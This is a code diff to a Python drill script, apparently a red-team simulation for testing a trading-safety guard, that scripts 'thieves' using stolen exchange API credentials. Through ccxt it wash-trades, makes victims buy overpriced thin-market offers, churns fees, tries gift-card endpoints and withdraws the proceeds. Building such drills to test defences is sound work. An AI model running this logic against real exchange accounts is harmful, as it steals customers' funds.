@@ -1,154 +1,254 @@
-"""The thief of 2022: trades with a stolen credential and cannot withdraw from the victim.
+"""The thieves: programs that got hold of the credentials of bots, and do what was done in 2022.
 
-He rests offers in a thin market from an account of his own, far above its price, sells the
-victim's liquid coin and lets the victim buy his offers with the proceeds. Where that is
-refused he tries what else the credential may do: smaller and simultaneous orders, offers at a
-fair price for coins that nobody else wants, orders far off the market, churning, orders marked
-as exits, and the doors that move value. At the end he withdraws what he got.
+Pairs of accounts of their own work side by side, each in one thin market, which some trades
+between the two make look alive. Customer by customer they sell the liquid coin, rest offers of a
+worthless coin far above its price, make the customer buy them, and withdraw what that gave. Where
+it is refused they try what else the credential may do: offers at a fair price for coins that
+nobody else wants, orders far off the market, churning, orders marked as exits, and the doors
+that move value.
 """
 
 import asyncio
+import contextlib
 from collections.abc import Awaitable
 from typing import Any
 
 import ccxt.async_support as ccxt
 import msgspec
 
-from tradelatch.drills.ccxt_client import binance
+from tradelatch.drills.ccxt_client import binance, load_markets_once
 from tradelatch.drills.script import Credentials, read_brief, tell
 
-THIEF = "thief"
-SLICES = 20
-SWEEPS = 4
-CHURNS = 60
-CHURNED = 60
-"""How often he buys and sells for nothing but the cost, and how much of the coin each time."""
+THIEF = "thieves"
+SLICES = 8
+"""Orders at once, of either side."""
+FAIR_TRIES = 6
+WASHES = 3
+_DUST = 1e-6
+CHURNED = 0.084
+"""What is bought and sold for nothing but the cost, as a share of the account."""
+
+
+class Victim(msgspec.Struct, frozen=True):
+    """A stolen credential. `take` is how much (quote) the account is to spend in all, in so many
+    `rounds`, and `churns` how often it may be churned where nothing else helps; `deep` is the
+    market in which its liquid coin is sold. `step_by_step` tells every step, and not the sum."""
+
+    name: str
+    account: Credentials
+    deep: str
+    worth: float
+    take: float
+    rounds: int
+    churns: int
+    step_by_step: bool
+
+
+class Pair(msgspec.Struct, frozen=True):
+    """Two accounts of their own, the thin market they work in, and whom they rob there."""
+
+    accounts: tuple[Credentials, ...]
+    thin: str
+    victims: tuple[Victim, ...]
 
 
 class Brief(msgspec.Struct, frozen=True):
-    """The stolen credential, his own account, and what he is after.
+    """What the thieves have, how far above the market they offer, and how long an hour is."""
 
-    `take` is how much (quote) he means to let the victim spend in all, as in the case of 50 BTC
-    of which 43 were gone; `markup` is how far above the market he offers.
-    """
-
-    victim: Credentials
-    own: Credentials
-    thin: str
-    deep: str
-    take: float
+    pairs: tuple[Pair, ...]
     markup: float
+    hour_s: float
 
 
 async def steal(brief: Brief) -> None:
-    """The whole theft."""
-    victim = binance(brief.victim.url, brief.victim.key, brief.victim.secret)
-    own = binance(brief.own.url, brief.own.key, brief.own.secret)
+    """All pairs at once."""
+    await asyncio.gather(*(_rob_all(pair, brief) for pair in brief.pairs))
+
+
+async def _rob_all(pair: Pair, brief: Brief) -> None:
+    stolen = [binance(v.account.url, v.account.key, v.account.secret) for v in pair.victims]
+    own = [binance(a.url, a.key, a.secret) for a in pair.accounts]
     try:
-        await asyncio.gather(victim.load_markets(), own.load_markets())
-        await Theft(brief, victim, own).run()
+        await asyncio.gather(load_markets_once(stolen), load_markets_once(own))
+        fair = (await own[0].fetch_ticker(pair.thin))["ask"]
+        await _wash(own, pair.thin)
+        brought = {one.apiKey: await _money(one) for one in own}
+        for victim, client in zip(pair.victims, stolen, strict=True):
+            await Theft(victim, client, own, pair.thin, fair, brief).run()
+            if not await _withdraw(own, brought, victim.name):
+                break
     finally:
-        await asyncio.gather(victim.close(), own.close())
+        await asyncio.gather(*(client.close() for client in (*stolen, *own)))
+
+
+async def _money(client: Any) -> float:
+    return float((await client.fetch_balance())["free"].get("BTC", 0))
+
+
+async def _withdraw(own: list[Any], brought: dict[str, float], victim: str) -> bool:
+    """Take out what their own accounts got beyond what they brought; whether that is let."""
+    loot = 0.0
+    for client in own:
+        more = await _money(client) - brought[client.apiKey]
+        if more < _DUST:
+            continue
+        try:
+            await client.withdraw("BTC", client.currency_to_precision("BTC", more), "elsewhere")
+        except ccxt.BaseError as error:
+            tell(THIEF, f"withdraw: {_message(error)}; they give up", refused=True)
+            return False
+        loot += more
+    if loot:
+        tell(THIEF, f"{victim}: they withdrew {loot:.4f} BTC")
+    return True
+
+
+async def _wash(own: list[Any], thin: str) -> None:
+    """Trades between their own accounts, which make the market look alive."""
+    seller, buyer = own
+    for _ in range(WASHES):
+        ticker = await seller.fetch_ticker(thin)
+        price = seller.price_to_precision(thin, (ticker["bid"] + ticker["ask"]) / 2)
+        amount = seller.amount_to_precision(thin, 0.01 / float(price))
+        try:
+            await seller.create_order(thin, "limit", "sell", amount, price)
+            await buyer.create_order(thin, "limit", "buy", amount, price)
+        except ccxt.BaseError as error:
+            tell(THIEF, _message(error), refused=True)
+            return
+    tell(THIEF, f"traded {thin} with themselves {WASHES} times")
 
 
 class Theft:
-    """One theft, step by step."""
+    """One customer, step by step."""
 
-    def __init__(self, brief: Brief, victim: Any, own: Any) -> None:
-        self._brief, self._victim, self._own = brief, victim, own
+    def __init__(
+        self, victim: Victim, client: Any, own: list[Any], thin: str, fair: float, brief: Brief
+    ) -> None:
+        self._brief, self._of, self._fair, self._thin = brief, victim, fair, thin
+        self._victim, self._own = client, own
         self._refusals: list[str] = []
 
     async def run(self) -> None:
-        """All steps; the later ones only if the first did not get him what he is after."""
-        fair = (await self._own.fetch_ticker(self._brief.thin))["ask"]
-        await self._sell_liquid()
-        left = self._brief.take
-        for _ in range(SWEEPS):
-            spent = await self._contra(fair * self._brief.markup, left)
+        """All steps; the later ones only if the first did not get them what they are after."""
+        if not await self._sell_liquid():
+            return
+        left, rounds = self._of.take, 0
+        # What the market's own makers offer is cheap, so that a round may fall short.
+        while rounds < 2 * self._of.rounds:
+            rounds += 1
+            part = min(left, self._of.take / self._of.rounds)
+            spent = await self._contra(self._fair * self._brief.markup, part)
             left -= spent
-            if not spent or left < self._brief.take / 100:
+            if not spent or left < self._of.take / 50:
                 break
-        if left > self._brief.take / 10:
-            await self._make_do(fair, left)
-        await self._leave()
-
-    async def _make_do(self, fair: float, left: float) -> None:
-        """What else the credential may do, one thing after another."""
-        await self._contra(fair * 1.005, left)
-        for step in (self._far_off_the_market, self._churn, self._other_doors):
-            await asyncio.sleep(1.0)
-            await step()
+            await asyncio.sleep(self._brief.hour_s / 2)
+        spent = self._of.take - left
+        if spent:
+            self._tell(f"bought {self._thin} for {spent:.4f} BTC in {rounds} rounds")
+        else:
+            await self._make_do(left)
+        if not self._of.step_by_step:
             self._tell_refusals()
 
-    async def _sell_liquid(self) -> None:
-        """Cancel what the owner has open and sell his liquid coin at market, in parts.
+    async def _make_do(self, left: float) -> None:
+        """What else the credential may do, one thing after another."""
+        await self._offer_fairly(left)
+        for step in (self._far_off_the_market, self._churn, self._other_doors):
+            await asyncio.sleep(self._brief.hour_s / 4)
+            await step()
+            if self._of.step_by_step:
+                self._tell_refusals()
+
+    async def _sell_liquid(self) -> bool:
+        """Cancel what the owner has open and sell his liquid coin at market, in parts; whether
+        the credential still opens the account.
 
         Half of them are marked as exits, which draw on another amount behind the gate.
         """
-        base = self._brief.deep.split("/")[0]
-        await self._try(self._victim.cancel_all_orders(self._brief.deep), "cancel all")
-        self._refusals.clear()
-        held = (await self._victim.fetch_balance())["free"].get(base, 0)
+        base = self._of.deep.split("/")[0]
+        await self._cancel_all(self._victim, self._of.deep)
+        balance = await self._try(self._victim.fetch_balance(), "look")
+        if balance is None:
+            self._tell_refusals()
+            return False
+        held = balance["free"].get(base, 0)
         sold = 0.0
         for number in range(4):
             mark = {"clientOrderId": f"exit-{number}"} if number % 2 else None
             order = await self._order(
-                self._victim, self._brief.deep, "market", "sell", held / 4, None, mark
+                self._victim, self._of.deep, "market", "sell", held / 4, None, mark
             )
             sold += (order or {}).get("filled") or 0
-            await asyncio.sleep(1.0)
-        tell(THIEF, f"sold {sold:.4f} of the victim's {held:.4f} {base}", refused=not sold)
+            await asyncio.sleep(self._brief.hour_s / 4)
+        if self._of.step_by_step:
+            self._tell(f"sold {sold:.4f} of the victim's {held:.4f} {base}", refused=not sold)
+        return True
 
     async def _contra(self, price: float, money: float) -> float:
-        """Offer at `price` from his own account and make the victim buy, many orders at once."""
-        thin = self._brief.thin
+        """Offer at `price` from both own accounts and make the victim buy, many orders at once."""
+        thin = self._thin
         part = money / price / SLICES
-        offers = [self._order(self._own, thin, "limit", "sell", part, price) for _ in range(SLICES)]
+        sellers = [self._own[number % len(self._own)] for number in range(SLICES)]
+        offers = [self._order(own, thin, "limit", "sell", part, price) for own in sellers]
         resting = [order for order in await asyncio.gather(*offers) if order]
-        tell(THIEF, f"rests {len(resting)} offers in {thin} at {price:.8f}")
         buys = [self._order(self._victim, thin, "limit", "buy", part, price) for _ in range(SLICES)]
         spent = sum((order or {}).get("cost") or 0 for order in await asyncio.gather(*buys))
-        tell(THIEF, f"the victim bought for {spent:.4f}", refused=not spent)
-        self._tell_refusals()
+        offered = f"{len(resting)} offers in {thin} at {price:.8f}"
+        if self._of.step_by_step:
+            self._tell(f"bought for {spent:.4f} from {offered}", refused=not spent)
+            self._tell_refusals()
         if not spent and resting:
-            await self._try(self._own.cancel_all_orders(thin), "cancel all")
+            for own in self._own:
+                await self._cancel_all(own, thin)
         return float(spent)
 
+    async def _offer_fairly(self, money: float) -> None:
+        """Worthless coins at a fair price: for less and less, until some of it is let through."""
+        for _ in range(FAIR_TRIES if self._of.step_by_step else 1):
+            spent = await self._contra(self._fair * 1.005, money)
+            money = money - spent if spent else money / 4
+
     async def _far_off_the_market(self) -> None:
-        """Orders on the deep market so far off that only a bid of his own would take them."""
-        ticker = await self._own.fetch_ticker(self._brief.deep)
+        """Orders on the deep market so far off that only a bid of their own would take them."""
+        ticker = await self._own[0].fetch_ticker(self._of.deep)
+        amount = self._of.worth * 0.0003 / ticker["bid"]
         for factor in (0.5, 0.8, 0.9):
             price = ticker["bid"] * factor
-            await self._order(self._victim, self._brief.deep, "limit", "sell", 0.2, price)
+            await self._order(self._victim, self._of.deep, "limit", "sell", amount, price)
         for factor in (1.1, 1.5):
             price = ticker["ask"] * factor
-            await self._order(self._victim, self._brief.deep, "limit", "buy", 0.2, price)
+            await self._order(self._victim, self._of.deep, "limit", "buy", amount, price)
 
     async def _churn(self) -> None:
         """Burn fees and spread: buy and sell the deep coin until that is refused."""
-        rounds = 0
-        for _ in range(CHURNS):
-            await self._until_quoted()
-            bought = await self._order(self._victim, self._brief.deep, "market", "buy", CHURNED)
+        rounds, deep = 0, self._of.deep
+        for _ in range(self._of.churns):
+            amount = self._of.worth * CHURNED / await self._quoted_price()
+            bought = await self._order(self._victim, deep, "market", "buy", amount)
             if bought is None:
                 break
             rounds += 1
-            # A little less than was filled: the fee was taken from the coin.
-            coins = (bought["filled"] or 0) * 0.998
-            if coins and not await self._order(
-                self._victim, self._brief.deep, "market", "sell", coins
-            ):
+            # Less than was filled: the fee was taken from the coin, and the owner's bot goes on
+            # placing orders, which hold some.
+            coins = (bought["filled"] or 0) * 0.94
+            await self._cancel_all(self._victim, deep)
+            if coins and not await self._order(self._victim, deep, "market", "sell", coins):
                 break
-        tell(THIEF, f"churned {self._brief.deep} {rounds} times", refused=rounds < CHURNS)
+        if self._of.step_by_step:
+            self._tell(f"churned {deep} {rounds} times", refused=rounds < self._of.churns)
 
-    async def _until_quoted(self) -> None:
-        """Let the makers come back: in a swept book the guard sees no deep market any more."""
+    async def _quoted_price(self) -> float:
+        """The bid, once the makers are back: in a swept book the guard sees no deep market."""
+        bid = 0.0
         for _ in range(20):
-            ticker = await self._own.fetch_ticker(self._brief.deep)
-            is_narrow = ticker["ask"] <= ticker["bid"] * 1.002
+            ticker = await self._own[0].fetch_ticker(self._of.deep)
+            bid = ticker["bid"]
+            is_narrow = ticker["ask"] <= bid * 1.002
             await asyncio.sleep(0.3)  # so that the signer has seen it too
             if is_narrow:
-                return
+                break
+        return bid
 
     async def _other_doors(self) -> None:
         """Everything else by which value could leave the victim's account."""
@@ -161,15 +261,6 @@ class Theft:
             self._victim.sapi_post_giftcard_createcode({"token": "BTC", "amount": 1}), "gift card"
         )
 
-    async def _leave(self) -> None:
-        """Withdraw what his own account got."""
-        balance = await self._own.fetch_balance()
-        loot = balance["free"].get("BTC", 0)
-        if loot > 0 and await self._try(self._own.withdraw("BTC", loot, "elsewhere"), "withdraw"):
-            tell(THIEF, f"withdrew {loot:.4f} BTC")
-        else:
-            tell(THIEF, "leaves with nothing", refused=True)
-
     async def _order(
         self,
         client: Any,
@@ -181,24 +272,35 @@ class Theft:
         extra: dict[str, str] | None = None,
     ) -> Any:
         """ccxt's order, None if it was refused."""
-        amount = client.amount_to_precision(symbol, amount)
         limit = client.price_to_precision(symbol, price) if price else None
+        try:
+            amount = client.amount_to_precision(symbol, amount)
+        except ccxt.InvalidOrder:
+            return None  # nothing is left of that coin
         made = client.create_order(symbol, kind, side, amount, limit, extra or {})
         return await self._try(made, f"{side} {symbol}")
+
+    async def _cancel_all(self, client: Any, symbol: str) -> None:
+        """Where nothing is open that is refused, and nobody minds."""
+        with contextlib.suppress(ccxt.BaseError):
+            await client.cancel_all_orders(symbol)
 
     async def _try(self, call: Awaitable[Any], what: str) -> Any:
         try:
             return await call
         except ccxt.BaseError as error:
-            self._refusals.append(f"{what}: {type(error).__name__}: {_message(error)}")
+            self._refusals.append(f"{what}: {_message(error)}")
             return None
 
     def _tell_refusals(self) -> None:
         """One line for a whole volley that was refused alike."""
         if self._refusals:
             more = f" (and {len(self._refusals) - 1} more)" if len(self._refusals) > 1 else ""
-            tell(THIEF, f"{self._refusals[0][:400]}{more}", refused=True)
+            self._tell(f"{self._refusals[0][:400]}{more}", refused=True)
         self._refusals.clear()
+
+    def _tell(self, says: str, *, refused: bool = False) -> None:
+        tell(THIEF, f"{self._of.name}: {says}", refused=refused)
 
 
 def _message(error: Exception) -> str:
